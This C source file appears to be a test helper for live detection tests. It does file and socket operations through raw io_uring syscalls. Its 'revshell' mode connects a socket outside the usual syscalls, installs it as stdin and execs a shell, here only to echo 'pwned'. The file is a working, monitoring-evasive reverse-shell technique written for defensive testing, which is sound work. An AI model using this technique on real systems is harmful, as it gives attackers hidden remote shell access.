// io_uring probe for the live tests (issue 19): file and socket operations done through io_uring
// only, with raw io_uring_setup/io_uring_enter/io_uring_register syscalls and mmap (liburing is
// not needed). Compiled by the tests with gcc into a temporary directory.
//
//   iouring_probe read PATH               OPENAT + READ + CLOSE (plain fds); prints "fd=N bytes=M"
//   iouring_probe connect IP PORT         SOCKET + CONNECT + CLOSE (plain fds)
//   iouring_probe fdtable A B C IP PORT   close/reuse/install: see the test (tests/collector)
//   iouring_probe revshell IP PORT CMD    SOCKET and CONNECT in fixed slot 0, CLOSE fd 0,
//                                         FIXED_FD_INSTALL slot 0 (lands on fd 0), then exec CMD
// Every step prints one line "step res" on stderr; exit status 0 when every step succeeded.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef IORING_OP_FIXED_FD_INSTALL
#define IORING_OP_FIXED_FD_INSTALL 54      // 6.8+; the installed headers may be older
#endif

struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static int ring_init(struct ring *r, unsigned entries) {
    struct io_uring_params p;
    memset(&p, 0, sizeof(p));
    r->fd = (int)syscall(__NR_io_uring_setup, entries, &p);
    if (r->fd < 0) { perror("io_uring_setup"); return -1; }
    size_t sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    size_t sz = sq_sz > cq_sz ? sq_sz : cq_sz;
    char *sq = mmap(0, sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
                    IORING_OFF_SQ_RING);
    if (sq == MAP_FAILED) { perror("mmap sq"); return -1; }
    char *cq = sq;                                  // IORING_FEAT_SINGLE_MMAP (5.4+)
    r->sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                   MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
    if (r->sqes == MAP_FAILED) { perror("mmap sqes"); return -1; }
    r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
    r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    r->sq_array = (unsigned *)(sq + p.sq_off.array);
    r->cq_head = (unsigned *)(cq + p.cq_off.head);
    r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
    r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    return 0;
}

static struct io_uring_sqe *get_sqe(struct ring *r) {
    unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
    struct io_uring_sqe *s = &r->sqes[idx];
    memset(s, 0, sizeof(*s));
    r->sq_array[idx] = idx;
    return s;
}

// Submit the one prepared sqe and wait for its completion; returns cqe->res.
static int submit_wait(struct ring *r, const char *step) {
    __atomic_store_n(r->sq_tail, *r->sq_tail + 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
        perror("io_uring_enter");
        exit(3);
    }
    unsigned head = *r->cq_head;
    while (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE))
        ;
    int res = r->cqes[head & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
    fprintf(stderr, "%s %d\n", step, res);
    return res;
}

static int iou_openat(struct ring *r, const char *path, int flags, unsigned slot) {
    struct io_uring_sqe *s = get_sqe(r);
    s->opcode = IORING_OP_OPENAT;
    s->fd = AT_FDCWD;
    s->addr = (unsigned long)path;
    s->open_flags = flags;
    s->file_index = slot;                  // 0: a plain fd; n: fixed slot n - 1
    s->user_data = 1;
    return submit_wait(r, "openat");
}

static int iou_read(struct ring *r, int fd, int fixed, char *buf, unsigned len) {
    struct io_uring_sqe *s = get_sqe(r);
    s->opcode = IORING_OP_READ;
    s->fd = fd;
    s->flags = fixed ? IOSQE_FIXED_FILE : 0;
    s->addr = (unsigned long)buf;
    s->len = len;
    s->user_data = 2;
    return submit_wait(r, "read");
}

static int iou_close(struct ring *r, int fd, unsigned slot) {
    struct io_uring_sqe *s = get_sqe(r);
    s->opcode = IORING_OP_CLOSE;
    s->fd = slot ? 0 : fd;
    s->file_index = slot;
    s->user_data = 3;
    return submit_wait(r, "close");
}

static int iou_socket(struct ring *r, unsigned slot) {
    struct io_uring_sqe *s = get_sqe(r);
    s->opcode = IORING_OP_SOCKET;
    s->fd = AF_INET;
    s->off = SOCK_STREAM;
    s->len = 0;
    s->file_index = slot;
    s->user_data = 4;
    return submit_wait(r, "socket");
}

static int iou_connect(struct ring *r, int fd, int fixed, struct sockaddr_in *sa) {
    struct io_uring_sqe *s = get_sqe(r);
    s->opcode = IORING_OP_CONNECT;
    s->fd = fd;
    s->flags = fixed ? IOSQE_FIXED_FILE : 0;
    s->addr = (unsigned long)sa;
    s->off = sizeof(*sa);
    s->user_data = 5;
    return submit_wait(r, "connect");
}

static int iou_install(struct ring *r, int slot) {
    struct io_uring_sqe *s = get_sqe(r);
    s->opcode = IORING_OP_FIXED_FD_INSTALL;
    s->fd = slot;
    s->flags = IOSQE_FIXED_FILE;
    s->rw_flags = 1;                       // IORING_FIXED_FD_NO_CLOEXEC: the fd survives exec
    s->user_data = 6;
    return submit_wait(r, "install");
}

static int sparse_files(struct ring *r, unsigned n) {
    int fds[8];
    for (unsigned i = 0; i < n && i < 8; i++)
        fds[i] = -1;
    int ret = (int)syscall(__NR_io_uring_register, r->fd, IORING_REGISTER_FILES, fds, n);
    fprintf(stderr, "register %d\n", ret);
    return ret;
}

static void addr_of(struct sockaddr_in *sa, const char *ip, const char *port) {
    memset(sa, 0, sizeof(*sa));
    sa->sin_family = AF_INET;
    sa->sin_port = htons((unsigned short)atoi(port));
    inet_pton(AF_INET, ip, &sa->sin_addr);
}

int main(int argc, char **argv) {
    struct ring r;
    char buf[256];
    if (argc < 2 || ring_init(&r, 8) < 0)
        return 2;
    if (!strcmp(argv[1], "read") && argc == 3) {
        int fd = iou_openat(&r, argv[2], O_RDONLY, 0);
        if (fd < 0) return 1;
        int n = iou_read(&r, fd, 0, buf, sizeof(buf));
        int c = iou_close(&r, fd, 0);
        printf("fd=%d bytes=%d\n", fd, n);
        return n < 0 || c < 0;
    }
    if (!strcmp(argv[1], "connect") && argc == 4) {
        struct sockaddr_in sa;
        addr_of(&sa, argv[2], argv[3]);
        int fd = iou_socket(&r, 0);
        if (fd < 0) return 1;
        int c = iou_connect(&r, fd, 0, &sa);
        iou_close(&r, fd, 0);
        printf("fd=%d connect=%d\n", fd, c);
        return c < 0;
    }
    if (!strcmp(argv[1], "fdtable") && argc == 7) {
        // 1. open A through io_uring, close it through io_uring, open B (reuses the number),
        //    close(2) it: that close must name B.
        int a = iou_openat(&r, argv[2], O_RDONLY, 0);
        iou_close(&r, a, 0);
        int b = iou_openat(&r, argv[3], O_RDONLY, 0);
        printf("a=%d b=%d\n", a, b);
        close(b);
        // 2. open C into fixed slot 1 (no fd), install it as an fd, close(2) that fd: names C.
        if (sparse_files(&r, 4) < 0) return 1;
        int rs = iou_openat(&r, argv[4], O_RDONLY, 2);
        int n = iou_read(&r, 1, 1, buf, sizeof(buf));
        int c = iou_install(&r, 1);
        printf("slot=%d read=%d installed=%d\n", rs, n, c);
        close(c);
        // 3. a socket in fixed slot 2 connected through io_uring, installed: close(2) names it
        struct sockaddr_in sa;
        addr_of(&sa, argv[5], argv[6]);
        iou_socket(&r, 3);
        int cn = iou_connect(&r, 2, 1, &sa);
        int s = iou_install(&r, 2);
        printf("connect=%d sock=%d\n", cn, s);
        close(s);
        // 4. closing the fixed slot through io_uring (no fd involved)
        iou_close(&r, 0, 2);
        fflush(stdout);
        return a < 0 || b < 0 || rs < 0 || c < 0 || cn < 0 || s < 0;
    }
    if (!strcmp(argv[1], "revshell") && argc == 5) {
        struct sockaddr_in sa;
        addr_of(&sa, argv[2], argv[3]);
        if (sparse_files(&r, 2) < 0) return 1;
        iou_socket(&r, 1);
        if (iou_connect(&r, 0, 1, &sa) < 0) return 1;
        iou_close(&r, 0, 0);               // stdin, closed through io_uring
        int fd = iou_install(&r, 0);       // the lowest free fd: 0
        if (fd != 0) return 1;
        execl(argv[4], argv[4], "-c", "echo pwned", (char *)NULL);
        return 4;
    }
    fprintf(stderr, "usage: see the source\n");
    return 2;
}
